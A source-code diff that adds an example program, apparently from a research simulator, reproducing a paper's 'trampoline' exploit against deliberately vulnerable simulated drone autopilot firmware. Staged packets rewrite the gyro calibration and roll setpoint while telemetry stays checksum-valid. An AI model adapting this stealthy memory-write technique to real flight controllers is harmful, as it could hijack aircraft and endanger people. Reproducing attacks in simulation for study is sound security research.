@@ -1,0 +1,88 @@
+// End-to-end hijack scenario using the trampoline attack (paper §IV-E):
+// the attacker needs more state rewritten than one 96-byte buffer can
+// express, so the payload is staged in free SRAM through dozens of
+// clean-return packets and then executed in one shot — rewriting the
+// flight setpoint *and* the gyro calibration while the operator's
+// telemetry stays perfectly healthy.
+#include <cstdio>
+
+#include "attack/attacks.hpp"
+#include "firmware/generator.hpp"
+#include "firmware/profile.hpp"
+#include "sim/board.hpp"
+#include "sim/flight.hpp"
+#include "sim/ground.hpp"
+
+int main() {
+  using namespace mavr;
+
+  const firmware::Firmware fw = firmware::generate(
+      firmware::testapp(/*vulnerable=*/true),
+      toolchain::ToolchainOptions::mavr());
+  const attack::AttackPlan plan = attack::analyze(fw.image);
+
+  sim::Board board;
+  board.flash_image(fw.image.bytes);
+  sim::FlightModel flight(board);
+  sim::GroundStation gcs(board);
+
+  const auto fly = [&](double seconds) {
+    for (int i = 0; i < seconds / 0.01; ++i) {
+      flight.step(0.01);
+      board.run_cycles(160'000);
+      gcs.poll();
+    }
+  };
+
+  fly(2.0);
+  std::printf("cruise:  roll %+6.1f deg, %llu telemetry packets, link "
+              "clean\n",
+              flight.state().roll_deg,
+              static_cast<unsigned long long>(gcs.packets_received()));
+
+  // The hijack payload: 12 bytes across g_gyro_cal + g_setpoint — a
+  // phantom-rate bias plus a new commanded roll rate. Four write_mem
+  // rounds exceed one packet's capacity, so V3 stages them.
+  const toolchain::DataSymbol* cal = fw.image.find_data("g_gyro_cal");
+  const std::vector<attack::Write3> hijack = {
+      {static_cast<std::uint16_t>(cal->ram_addr + 0), {0x00, 0x02, 0x00}},
+      {static_cast<std::uint16_t>(cal->ram_addr + 3), {0x00, 0x00, 0x00}},
+      {static_cast<std::uint16_t>(cal->ram_addr + 6), {0x80, 0x00, 0x00}},
+      {static_cast<std::uint16_t>(cal->ram_addr + 9), {0x00, 0x00, 0x00}},
+  };
+  const auto packets = plan.builder().v3_payloads(0x1B00, hijack);
+  std::printf("attack:  staging a %zu-packet trampoline chain "
+              "(capacity/packet: %zu write rounds)...\n",
+              packets.size(), plan.builder().v2_write_capacity());
+
+  std::size_t sent = 0;
+  for (const auto& packet : packets) {
+    gcs.send_raw_param_set(packet);
+    fly(0.15);  // each staging packet clean-returns mid-flight
+    ++sent;
+    if (board.cpu().state() != avr::CpuState::Running) {
+      std::printf("  board died at packet %zu (should not happen)\n", sent);
+      return 1;
+    }
+  }
+  std::printf("attack:  %zu packets delivered, every one returned "
+              "cleanly, link still clean=%s\n",
+              sent, gcs.garbage_bytes() == 0 ? "yes" : "no");
+
+  fly(4.0);
+  std::printf("hijack:  roll %+6.1f deg and diverging — setpoint and "
+              "calibration rewritten\n",
+              flight.state().roll_deg);
+  std::printf("victim:  %s, telemetry packets %llu, garbage bytes %llu\n",
+              board.cpu().state() == avr::CpuState::Running
+                  ? (flight.state().departed
+                         ? "autopilot alive, airframe departing"
+                         : "flying the attacker's course")
+                  : "crashed",
+              static_cast<unsigned long long>(gcs.packets_received()),
+              static_cast<unsigned long long>(gcs.garbage_bytes()));
+  std::printf("\nthe ground station saw an uninterrupted, checksum-valid "
+              "telemetry stream the\nentire time — the paper's definition "
+              "of a stealthy hijack.\n");
+  return 0;
+}
